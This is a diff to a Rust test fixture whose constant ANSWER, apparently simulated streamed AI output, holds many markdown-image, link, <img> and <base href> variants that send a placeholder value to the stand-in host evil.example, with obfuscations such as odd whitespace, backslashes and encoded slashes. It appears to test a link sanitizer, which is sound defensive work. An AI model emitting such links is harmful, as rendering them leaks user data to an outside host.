@@ -14,7 +14,8 @@ const ANSWER: &str = "\u{2014} ![a](https://wiki.example/?q=§&again=§) [b](htt
     https://wiki%2Eexample/¤ https://¤@wiki.example/ https://¤.wiki.example/ https://wiki.example?q=¤ //wiki.example/¤ \
     https://wiki.example/?to=https://evil.example/¤ https://wiki.example/?to=%2F%2Fevil.example%2F¤ \
     ![x](https://evil.example/?q=\u{a0}¤) <img src=https://evil.example/?q=\u{2028}¤> [r]: https://evil.example/?q=\u{3000}¤ \
-    https://evil.example/?q=\u{85}\u{200b}¤ <img src=\"https:\t//evil.example/?q= ¤\"> https://wiki.example/?q=\u{202f}¤ ";
+    https://evil.example/?q=\u{85}\u{200b}¤ <img src=\"https:\t//evil.example/?q= ¤\"> https://wiki.example/?q=\u{202f}¤ \
+    <img src=\"\\\\evil.example/?q= ¤\"> ![x](\\/evil.example/?q=¤) <base href=\"//evil.example\"> <img src=\"?q= ¤\"> ";
 
 /// The answer, its pseudonym taken from what was asked, in pieces of so many characters when it is streamed.
 fn answering(size: usize) -> impl Fn(&Asked) -> Vec<Step> + Send + Sync + 'static {
